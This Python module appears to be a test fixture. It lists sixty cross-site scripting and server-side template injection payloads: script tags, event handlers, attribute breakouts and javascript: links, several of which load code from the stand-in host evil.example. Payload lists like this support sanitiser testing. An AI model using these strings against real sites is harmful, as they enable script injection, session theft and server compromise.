"""Sixty texts that try to become more than text on a page."""

SCRIPTS = [
    '<script>alert(1)</script>', '<ScRiPt>alert(1)</sCrIpT>', '<script src=//evil.example/x.js></script>',
    '</script><script>alert(1)</script>', '<script/x>alert(1)</script>', '<script\n>alert(1)</script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>', '<<script>alert(1)//<</script>', '<script>alert`1`</script>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<template><script>alert(1)</script></template>',
]
HANDLERS = [
    '<img src=x onerror=alert(1)>', '<img src=x onerror="alert(1)">', '<img/src=x/onerror=alert(1)>',
    '<svg onload=alert(1)>', '<svg/onload=alert(1)>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<body onload=alert(1)>', '<input autofocus onfocus=alert(1)>', '<select autofocus onfocus=alert(1)>',
    '<textarea autofocus onfocus=alert(1)>', '<details open ontoggle=alert(1)>', '<video><source onerror=alert(1)>',
    '<audio src=x onerror=alert(1)>', '<marquee onstart=alert(1)>', '<a onmouseover=alert(1)>x</a>',
    '<div style="width:9999px" onmouseenter=alert(1)>', '<iframe onload=alert(1)>', '<object onerror=alert(1)>',
    '<style onload=alert(1)>',
]
OUT_OF_ATTRIBUTES = [
    '" onfocus="alert(1)" autofocus="', "' onfocus='alert(1)' autofocus='", '"><script>alert(1)</script>',
    "'><script>alert(1)</script>", '" style="background:url(//evil.example)', '"/><img src=x onerror=alert(1)>',
    '`onfocus=alert(1) autofocus=`', '" formaction="javascript:alert(1)', 'x" accesskey="x" onclick="alert(1)',
    '&quot; onfocus=&quot;alert(1)', '&#34; onfocus=&#34;alert(1)',
]
LINKS = [
    '<a href="javascript:alert(1)">x</a>', '<a href="jAvAsCrIpT:alert(1)">x</a>', '<a href="java&#09;script:alert(1)">x</a>',
    '<form action="javascript:alert(1)"><button>x</button></form>', '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=//evil.example">', '<link rel=stylesheet href=//evil.example/x.css>',
    '<iframe src="data:text/html,<script>alert(1)</script>">', '<embed src="//evil.example/x.swf">',
    '<object data="//evil.example/x"></object>',
]
TEMPLATES_AND_MATHS = [
    '{{ 7 * 7 }}', '{% import os %}{{ os }}', '{{ config.items() }}', '${7*7}', '<%= 7 * 7 %>', '#{7*7}',
    '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<math><a xlink:href="javascript:alert(1)">x</a></math>', '$\\href{javascript:alert(1)}{x}$',
]
PAYLOADS = (*SCRIPTS, *HANDLERS, *OUT_OF_ATTRIBUTES, *LINKS, *TEMPLATES_AND_MATHS)
assert len(PAYLOADS) == 60
